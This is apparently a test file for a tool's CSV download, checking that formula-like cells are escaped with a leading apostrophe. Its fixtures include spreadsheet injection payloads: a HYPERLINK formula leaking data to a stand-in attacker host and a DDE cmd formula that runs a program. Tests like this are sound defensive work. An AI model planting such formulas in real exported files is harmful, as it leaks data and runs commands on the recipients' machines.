// A result's CSV download carries text from datasets, imported results and model answers. A cell
// a spreadsheet would read as a formula (=HYPERLINK("http://…"&A2), =cmd|'/C calc'!A0, +, -, @,
// or one after a tab or CR) fetches URLs or runs commands where the file is opened: text cells
// and column names get a leading apostrophe (shown as text), as the labels CSV does; numbers stay numbers.
import { Float64, Int64, Table, Utf8, vectorFromArray } from 'apache-arrow';
import { describe, expect, it } from 'vitest';
import type { ResultTable } from '../../../src/lib/notebook/executor.ts';
import { toCSV } from '../../../src/lib/workbench/arrow-values.ts';
import { guardFormula } from '../../../src/lib/core/csv-formula.ts';

describe('the result CSV download', () => {
	it('writes formula-like text as text, and numbers as they are', () => {
		const table = new Table({
			'=HYPERLINK("http://evil.example/?q="&B2,"open")': vectorFromArray(['x'], new Utf8()),
			answer: vectorFromArray(["=cmd|' /C calc'!A0"], new Utf8()),
			more: vectorFromArray(['+1+cmd'], new Utf8()),
			at: vectorFromArray(['@SUM(A1)'], new Utf8()),
			tab: vectorFromArray(['\t=1+1'], new Utf8()),
			plain: vectorFromArray(['a - b = c'], new Utf8()),
			rate: vectorFromArray([-0.5], new Float64()),
			n: vectorFromArray([-3n], new Int64())
		}) as unknown as ResultTable;
		const [header, row] = toCSV(table).split('\r\n');
		expect(header).toBe(`"'=HYPERLINK(""http://evil.example/?q=""&B2,""open"")",answer,more,at,tab,plain,rate,n`);
		expect(row).toBe(`x,'=cmd|' /C calc'!A0,'+1+cmd,'@SUM(A1),'\t=1+1,a - b = c,-0.5,-3`);
	});

	it('marks exactly what the labels CSV marks', () => {
		expect(['=1', '+1', '-1', '@x', '\t=x', '\r=x', "'=x", 'a=b', '', 'x'].map(guardFormula)).toEqual(["'=1", "'+1", "'-1", "'@x", "'\t=x", "'\r=x", "''=x", 'a=b', '', 'x']);
	});
});
